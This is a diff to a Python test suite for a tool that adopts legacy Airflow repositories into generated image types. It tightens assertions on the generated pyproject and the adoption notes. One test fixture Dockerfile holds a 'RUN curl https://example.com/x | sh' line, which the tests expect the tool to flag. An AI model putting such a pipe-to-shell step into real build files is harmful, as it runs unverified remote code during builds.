@@ -1,5 +1,6 @@
-"""A new DAG type and an adopted repository, made, applied and then tested for real."""
+"""A new DAG type and an adopted repository: made, applied, and tested on the engine."""
 
+import tomllib
 from collections.abc import Mapping
 
 import dagger
@@ -59,13 +60,13 @@ def {name}():
 
 {name}()
 """
-WISHES = '"apache-airflow==3.1.5", "more-itertools>=10"'
+REQUIREMENTS = '"apache-airflow==3.1.5", "more-itertools>=10"'
 CRM = "import more_itertools\nfrom scripts.shared import words\n\ndone = lambda: words.of(more_itertools)\n"
 MAIL = "import cowsay\n\ndef done():\n    return cowsay.get_output_string('cow', 'hello')\n"
 OLD = {
     "Dockerfile.crm": DOCKERFILE.format(name="crm") + "RUN curl https://example.com/x | sh\n",
     "Dockerfile.mail": DOCKERFILE.format(name="mail"),
-    "pyproject.crm.toml": MANIFEST.format(name="crm", dependencies=WISHES),
+    "pyproject.crm.toml": MANIFEST.format(name="crm", dependencies=REQUIREMENTS),
     "pyproject.mail.toml": MANIFEST.format(name="mail", dependencies='"cowsay==6.1"'),
     "dags/crm_dag.py": DAG.format(name="crm"),
     "dags/mail_dag.py": DAG.format(name="mail"),
@@ -146,17 +147,30 @@ async def test_an_old_repository_is_adopted_and_passes_its_tests(below: BaseImag
         "dags/mail_dag.py",
     }
     crm = await after.file("images/crm/pyproject.toml").contents()
-    assert '"more-itertools==10.8.0",  # was more-itertools>=10' in crm
-    assert 'scripts = ["crm", "shared"]\nsystem-packages = ["libxml2"]' in crm
+    assert tomllib.loads(crm) == {
+        "project": {
+            "name": "crm",
+            "version": "0.1.0",
+            "requires-python": ">=3.9",
+            "dependencies": ["more-itertools==10.8.0"],
+        },
+        "tool": {
+            "airflow-images": {
+                "scripts": ["crm", "shared"],
+                "system-packages": ["libxml2"],
+                "env": {"crm_SIZE": "3"},
+            }
+        },
+    }
     notes = await after.file("ADOPTED.md").contents()
-    assert "- Dockerfile.crm:12 `RUN curl https://example.com/x | sh`: no command downloads" in notes
-    assert "- README.md:1 `Build with Dockerfile.crm.`: names what is gone" in notes
+    assert "- Dockerfile.crm:12 `RUN curl https://example.com/x | sh`: no command runs" in notes
+    assert "- README.md:1 `Build with Dockerfile.crm.`: names a file that is gone" in notes
     assert "## mail\n\nNothing is to do.\n" in notes
     for found in await reports(after, below):
         assert (found.passed, found.findings) == (True, ()), found
 
 
-async def test_what_the_base_stands_against_is_told_in_the_notes() -> None:
+async def test_a_conflict_with_the_base_is_in_the_notes() -> None:
     files = {
         "pyproject.crm.toml": MANIFEST.format(
             name="crm", dependencies='"httpx==0.27.0", "more-itertools>=10"'
@@ -171,5 +185,5 @@ async def test_what_the_base_stands_against_is_told_in_the_notes() -> None:
 
 
 async def test_a_repository_without_such_files_is_refused() -> None:
-    with pytest.raises(FunctionError, match=r"there is nothing to adopt: looked for Dockerfile\.<type>"):
+    with pytest.raises(FunctionError, match=r"nothing to adopt: expected Dockerfile\.<type>"):
         await scaffold.adopt(tree({"README.md": ""}), None)
